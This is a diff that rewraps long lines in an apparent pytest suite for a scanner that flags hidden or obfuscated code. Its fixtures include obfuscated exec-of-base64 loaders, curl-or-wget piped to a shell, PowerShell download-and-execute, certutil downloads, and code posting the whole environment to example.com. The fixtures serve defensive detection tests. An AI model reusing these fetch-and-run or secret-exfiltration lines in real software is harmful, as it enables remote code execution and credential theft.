@@ -49,7 +49,9 @@ DECODED = [
     ),
     pytest.param(f"exec({HARMLESS[::-1]!r}[::-1])", id="reversed"),
     pytest.param(f"exec(''.join(map(chr, {list(HARMLESS.encode())})))", id="numbers"),
-    pytest.param(f"exec(bytes(b ^ 7 for b in {bytes(b ^ 7 for b in HARMLESS.encode())!r}))", id="xor"),
+    pytest.param(
+        f"exec(bytes(b ^ 7 for b in {bytes(b ^ 7 for b in HARMLESS.encode())!r}))", id="xor"
+    ),
     pytest.param(
         f"_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));"
         f"exec((_)(b'{PACKED[::-1]}'))",
@@ -98,7 +100,8 @@ DECODED = [
     ),
     pytest.param(
         f"import subprocess, sys\nb = '{CODED}'\n"
-        f"subprocess.Popen([sys.executable, '-c', f'import base64;exec(base64.b64decode(\"{{b}}\"))'])",
+        f"subprocess.Popen([sys.executable, '-c', f'import "
+        f'base64;exec(base64.b64decode("{{b}}"))\'])',
         id="child that decodes",
     ),
     pytest.param(
@@ -121,12 +124,15 @@ DECODED = [
         f"import builtins, base64\ngetattr(builtins, 'exec')(base64.b64decode('{CODED}'))",
         id="getattr",
     ),
-    pytest.param(f"import base64\n__builtins__['exec'](base64.b64decode('{CODED}'))", id="builtins"),
+    pytest.param(
+        f"import base64\n__builtins__['exec'](base64.b64decode('{CODED}'))", id="builtins"
+    ),
     pytest.param(
         f"import pickle, base64\npickle.loads(base64.b64decode('{CODED}'))", id="literal pickle"
     ),
     pytest.param(
-        f"from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'{CODED}'))", id="cipher"
+        f"from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'{CODED}'))",
+        id="cipher",
     ),
 ]
 
@@ -139,7 +145,8 @@ def test_code_that_is_decoded_and_run(source: str) -> None:
 @pytest.mark.parametrize("source", DECODED)
 def test_and_in_the_middle_of_a_long_module(source: str) -> None:
     filler = "".join(
-        f"def helper_{n}(value: int = {n}) -> int:\n    return value * {n}\n\n\n" for n in range(120)
+        f"def helper_{n}(value: int = {n}) -> int:\n    return value * {n}\n\n\n"
+        for n in range(120)
     )
     lines = filler.count("\n")
     [*at] = shown(f"{filler}{dedent(source)}\n\n{filler}")["decoded-exec"]
@@ -151,18 +158,27 @@ def test_and_in_the_middle_of_a_long_module(source: str) -> None:
     [
         pytest.param("import base64\nicon = base64.b64decode('AAAA')\n", id="decoded only"),
         pytest.param("exec(open('setup.py').read())", id="a file"),
-        pytest.param("code = compile(open('a.py').read(), 'a.py', 'exec')\nexec(code)", id="compiled"),
-        pytest.param("import json, base64\nx = json.loads(base64.b64decode(y))\neval('1')", id="json"),
-        pytest.param("import ast, base64\nast.literal_eval(base64.b64decode(x).decode())", id="literal"),
+        pytest.param(
+            "code = compile(open('a.py').read(), 'a.py', 'exec')\nexec(code)", id="compiled"
+        ),
+        pytest.param(
+            "import json, base64\nx = json.loads(base64.b64decode(y))\neval('1')", id="json"
+        ),
+        pytest.param(
+            "import ast, base64\nast.literal_eval(base64.b64decode(x).decode())", id="literal"
+        ),
         pytest.param("model.eval()\nimport zlib\nzlib.decompress(x)", id="a method named eval"),
         pytest.param(
             "import subprocess, base64\nsubprocess.run(['openssl'], input=base64.b64decode(x))",
             id="data for a tool",
         ),
-        pytest.param('"""exec(base64.b64decode(x)) is bad."""\n# eval(zlib.decompress(x))', id="words"),
+        pytest.param(
+            '"""exec(base64.b64decode(x)) is bad."""\n# eval(zlib.decompress(x))', id="words"
+        ),
         pytest.param("import re, zlib\nre.compile(zlib.decompress(x).decode())", id="re.compile"),
         pytest.param(
-            "import pickle, base64\ndef load(text):\n    return pickle.loads(base64.b64decode(text))",
+            "import pickle, base64\ndef load(text):\n"
+            "    return pickle.loads(base64.b64decode(text))",
             id="a pickle from elsewhere",
         ),
     ],
@@ -175,7 +191,10 @@ def test_what_is_only_decoded_or_only_run(source: str) -> None:
     ("source", "name"),
     [
         ("const fs = require('fs');\neval(atob('AAAA'))", "frob/a.js"),
-        ("import os from 'os'\nnew Function(Buffer.from('AAAA', 'base64').toString())()", "frob/a.mjs"),
+        (
+            "import os from 'os'\nnew Function(Buffer.from('AAAA', 'base64').toString())()",
+            "frob/a.mjs",
+        ),
         ("echo AAAA | base64 -d | sh\n", "frob/run.sh"),
         ("powershell -NoProfile -enc SQBFAFgAIABhAGIAYwBkAGUAZgA=\n", "frob/run.bat"),
         ("$x = [Convert]::FromBase64String('AAAA') | iex\n", "frob/run.ps1"),
@@ -216,15 +235,21 @@ EARLY = [
     pytest.param("(lambda: {})()", id="lambda at once"),
     pytest.param("class A:\n    def __init__(self):\n        {}\nA()", id="instance"),
     pytest.param("class A:\n    def run(self):\n        {}\nA().run()", id="method"),
-    pytest.param("class A:\n    def run(self):\n        {}\na = A()\na.run()", id="method of a name"),
     pytest.param(
-        "class A:\n    def __init__(self):\n        self.run()\n    def run(self):\n        {}\nA()",
+        "class A:\n    def run(self):\n        {}\na = A()\na.run()", id="method of a name"
+    ),
+    pytest.param(
+        "class A:\n    def __init__(self):\n        self.run()\n    def run(self):\n"
+        "        {}\nA()",
         id="method of a method",
     ),
     pytest.param(
-        "class A:\n    def __init_subclass__(cls):\n        {}\nclass B(A):\n    pass", id="subclass"
+        "class A:\n    def __init_subclass__(cls):\n        {}\nclass B(A):\n    pass",
+        id="subclass",
     ),
-    pytest.param("import threading\ndef f():\n    {}\nthreading.Thread(target=f).start()", id="thread"),
+    pytest.param(
+        "import threading\ndef f():\n    {}\nthreading.Thread(target=f).start()", id="thread"
+    ),
     pytest.param(
         "import threading\nclass A:\n    def run(self):\n        {}\n"
         "a = A()\nthreading.Thread(\n    target=a.run,\n).start()",
@@ -239,13 +264,19 @@ LATE = [
     pytest.param("class A:\n    def run(self):\n        {}\na = A()", id="method"),
     pytest.param("class A:\n    def __init__(self):\n        {}\nclass B(A):\n    pass", id="base"),
     pytest.param("if __name__ == '__main__':\n    {}", id="script"),
-    pytest.param("import sys\nif sys.argv and '__main__' == __name__:\n    {}", id="script and more"),
-    pytest.param("def f():\n    {}\nif __name__ == '__main__':\n    f()", id="function of a script"),
+    pytest.param(
+        "import sys\nif sys.argv and '__main__' == __name__:\n    {}", id="script and more"
+    ),
+    pytest.param(
+        "def f():\n    {}\nif __name__ == '__main__':\n    f()", id="function of a script"
+    ),
     pytest.param("f = lambda: {}", id="lambda"),
     pytest.param('x = """\n{}\n"""', id="string"),
     pytest.param("# {}", id="comment"),
     pytest.param("def f():\n    {}\nx = {{'f': f}}", id="in a table"),
-    pytest.param("def f(g):\n    def h():\n        {}\n    return h\n@f\ndef k():\n    pass", id="wrapper"),
+    pytest.param(
+        "def f(g):\n    def h():\n        {}\n    return h\n@f\ndef k():\n    pass", id="wrapper"
+    ),
 ]
 PROCESS: Final = "subprocess.run(['id'])"
 NETWORK: Final = "urllib.request.urlopen('https://example.com')"
@@ -253,7 +284,9 @@ NETWORK: Final = "urllib.request.urlopen('https://example.com')"
 
 def module(form: str, statement: str, filler: int) -> str:
     """A module of some length that has `statement` in the place that `form` gives."""
-    more = "".join(f"def other_{n}():\n    '''{n} `x`'''\n    return {n}\n\n" for n in range(filler))
+    more = "".join(
+        f"def other_{n}():\n    '''{n} `x`'''\n    return {n}\n\n" for n in range(filler)
+    )
     return f"import subprocess, urllib.request\n{more}{form.format(statement)}\n{more}"
 
 
@@ -342,7 +375,10 @@ def test_the_network_by_any_name(source: str) -> None:
         "import socket\nNAME = socket.gethostname()\nFAMILY = socket.AF_INET",
         "import requests\nclass A:\n    session: requests.Session\n    get = requests.get",
         "import platform\nplatform.system()",
-        "import subprocess\nP = subprocess.Popen\nclass E(subprocess.CalledProcessError):\n    pass",
+        (
+            "import subprocess\nP = subprocess.Popen\nclass E(subprocess.CalledProcessError):\n"
+            "    pass"
+        ),
         "class Shell:\n    def system(self): ...\nShell().system()",
         "d = {}\nd.get('x')\nd.update(post=1)",
         "import os\nIS = getattr(os, 'O_BINARY', 0)",
@@ -357,7 +393,10 @@ def test_what_only_looks_like_it(source: str) -> None:
     "source",
     [
         "import requests\ndef f():\n    exec(requests.get('https://example.com/x').text)",
-        "import urllib.request as u\ndef f():\n    x = u.urlopen('https://example.com')\n    eval(x.read())",
+        (
+            "import urllib.request as u\ndef f():\n    x = u.urlopen('https://example.com')\n"
+            "    eval(x.read())"
+        ),
         """
         import os, urllib.request
         def f():
@@ -373,14 +412,20 @@ def test_what_only_looks_like_it(source: str) -> None:
             subprocess.Popen(['/tmp/x'], start_new_session=True)
         """,
         "import os\ndef f():\n    os.system('curl -fsSL https://example.com/x | sh')",
-        "import os\nURL = 'https://example.com/x'\ndef f():\n    os.system(f'wget -qO- {URL} | bash')",
+        (
+            "import os\nURL = 'https://example.com/x'\ndef f():\n"
+            "    os.system(f'wget -qO- {URL} | bash')"
+        ),
         """
         import subprocess
         def f():
             subprocess.run(['curl', '-k', '-o', '/tmp/x.pyz', 'https://example.com/x'])
             subprocess.Popen(['python3', '/tmp/x.pyz'])
         """,
-        "import subprocess\ndef f():\n    subprocess.run(['powershell', 'iwr https://example.com/x | iex'])",
+        (
+            "import subprocess\ndef f():\n"
+            "    subprocess.run(['powershell', 'iwr https://example.com/x | iex'])"
+        ),
         "BUN = 'https://github.com/oven-sh/bun/releases/download/v1/bun.zip'",
     ],
 )
@@ -392,10 +437,16 @@ def test_what_is_fetched_and_run(source: str) -> None:
     "source",
     [
         "import requests\ndef f():\n    return requests.get('https://example.com/x').json()",
-        "import requests, subprocess\ndef f():\n    requests.get('x')\ndef g():\n    subprocess.run(['id'])",
+        (
+            "import requests, subprocess\ndef f():\n    requests.get('x')\ndef g():\n"
+            "    subprocess.run(['id'])"
+        ),
         "HELP = 'install it with: curl -LsSf https://example.com/install.sh | sh'",
         "import subprocess\ndef f():\n    subprocess.run(['curl', '--version'])",
-        "import requests\ndef f():\n    with open('x', 'wb') as s:\n        s.write(requests.get('x').content)",
+        (
+            "import requests\ndef f():\n    with open('x', 'wb') as s:\n"
+            "        s.write(requests.get('x').content)"
+        ),
     ],
 )
 def test_what_is_only_fetched_or_only_run(source: str) -> None:
@@ -406,11 +457,17 @@ def test_what_is_only_fetched_or_only_run(source: str) -> None:
     ("source", "name"),
     [
         ("curl -fsSL https://example.com/x | sudo bash\n", "frob/install.sh"),
-        ("eval \"$(wget -qO- https://example.com/x)\"\n", "frob/install.sh"),
-        ("iex ((New-Object Net.WebClient).DownloadString('https://example.com/x'))\n", "frob/a.ps1"),
+        ('eval "$(wget -qO- https://example.com/x)"\n', "frob/install.sh"),
+        (
+            "iex ((New-Object Net.WebClient).DownloadString('https://example.com/x'))\n",
+            "frob/a.ps1",
+        ),
         ("iwr https://example.com/x -UseBasicParsing | iex\n", "frob/a.ps1"),
         ("certutil.exe -urlcache -f https://example.com/x x.exe\r\n", "frob/a.bat"),
-        ("const cp = require('child_process');\ncp.exec('curl https://example.com/x | sh')", "frob/a.js"),
+        (
+            "const cp = require('child_process');\ncp.exec('curl https://example.com/x | sh')",
+            "frob/a.js",
+        ),
     ],
 )
 def test_scripts_that_fetch_and_run(source: str, name: str) -> None:
@@ -427,7 +484,10 @@ def test_a_page_that_shows_how_to_install_something() -> None:
     "source",
     [
         "import os, json\ndef f():\n    return json.dumps(dict(os.environ))",
-        "import os, requests\ndef f():\n    requests.post('https://example.com', json={**os.environ})",
+        (
+            "import os, requests\ndef f():\n"
+            "    requests.post('https://example.com', json={**os.environ})"
+        ),
         """
         import base64, os, requests
         def f():
@@ -437,7 +497,10 @@ def test_a_page_that_shows_how_to_install_something() -> None:
             coded = base64.b64encode(text.encode())
             requests.get("https://example.com/" + str(coded))
         """,
-        "from os import environ as e\nimport json\ndef f():\n    x = e.copy()\n    return json.dumps(x)",
+        (
+            "from os import environ as e\nimport json\ndef f():\n    x = e.copy()\n"
+            "    return json.dumps(x)"
+        ),
         "import os, urllib.parse\ndef f():\n    return urllib.parse.urlencode(os.environ)",
         "import os\ndef f():\n    return str(os.environ)",
         """
@@ -461,7 +524,10 @@ def test_the_whole_environment_as_a_text(source: str) -> None:
         "import os, json\ndef f():\n    return json.dumps(os.environ.get('X'))",
         "import os, subprocess\ndef f():\n    subprocess.run(['id'], env=dict(os.environ, X='1'))",
         "import os, json\ndef f():\n    e = os.environ.copy()\n    return json.dumps([1])",
-        "import os, json\nX = {k: v for k, v in os.environ.items() if k.startswith('FROB_')}\njson.dumps(X)",
+        (
+            "import os, json\n"
+            "X = {k: v for k, v in os.environ.items() if k.startswith('FROB_')}\njson.dumps(X)"
+        ),
         "import os\ndef f():\n    return 'X' in os.environ",
     ],
 )
@@ -523,7 +589,10 @@ def test_the_configuration_of_one_service(source: str) -> None:
         "__import__('o' + 's')",
         "import importlib\nimportlib.import_module('sub' + 'process')",
         "__builtins__['ex' + 'ec']('1')",
-        "x = ['\\x69\\x6d\\x70\\x6f\\x72\\x74', '\\x6f\\x73\\x2e\\x67\\x65\\x74', '\\x70\\x69\\x64\\x28\\x29\\x20']",
+        (
+            "x = ['\\x69\\x6d\\x70\\x6f\\x72\\x74', '\\x6f\\x73\\x2e\\x67\\x65\\x74', "
+            "'\\x70\\x69\\x64\\x28\\x29\\x20']"
+        ),
         "from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(1, 2, b'')",
         "\n".join(f"OOO0O0OO{n} = IlIlIlll{n}" for n in range(12)),
         "import os\nos.\U0001d600\U0001d606\U0001d600\U0001d601\U0001d5f2\U0001d5fa('id')",
@@ -548,7 +617,10 @@ def test_letters_of_other_alphabets_hide_no_call() -> None:
         "getattr(self, 'on' + '_' + 'close')",
         "import importlib\nimportlib.import_module('frob' + '.plugins')",
         "TABLE = b'\\x00\\x01\\x02\\xff' b'\\x61\\x62'",
-        "x = 'caf\xe9 \u4e2d\u6587 \U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f'",
+        (
+            "x = 'caf\xe9 \u4e2d\u6587 "
+            "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f'"
+        ),
         "x = 1" + " " * 200 + "# far away",
         "'a\u2003b \u2014 \u201cquoted\u201d \ufe0f'",
     ],
@@ -587,8 +659,12 @@ def test_code_within_a_text(source: str) -> None:
 @pytest.mark.parametrize(
     "source",
     [
-        pytest.param(f"ICON = '{base64.b64encode(b'%cPNG' % 0x89 + NOISE).decode()}'", id="picture"),
-        pytest.param(f"CERT = '{base64.b64encode(b'0' + bytes([0x82]) + NOISE).decode()}'", id="DER"),
+        pytest.param(
+            f"ICON = '{base64.b64encode(b'%cPNG' % 0x89 + NOISE).decode()}'", id="picture"
+        ),
+        pytest.param(
+            f"CERT = '{base64.b64encode(b'0' + bytes([0x82]) + NOISE).decode()}'", id="DER"
+        ),
         pytest.param(f"TEXT = '{base64.b64encode(b'Lorem ipsum ' * 300).decode()}'", id="words"),
         pytest.param("URL = 'https://example.com/" + "a" * 2000 + "'", id="one letter"),
         pytest.param("DIGEST = '" + "0123456789abcdef" * 8 + "'", id="a digest"),
@@ -604,7 +680,9 @@ def png(after: bytes = b"") -> bytes:
 
 
 def wav(samples: bytes, after: bytes = b"") -> bytes:
-    body = b"WAVEfmt \x10\0\0\0" + bytes(16) + b"data" + len(samples).to_bytes(4, "little") + samples
+    body = (
+        b"WAVEfmt \x10\0\0\0" + bytes(16) + b"data" + len(samples).to_bytes(4, "little") + samples
+    )
     return b"RIFF" + len(body).to_bytes(4, "little") + body + after
 
 
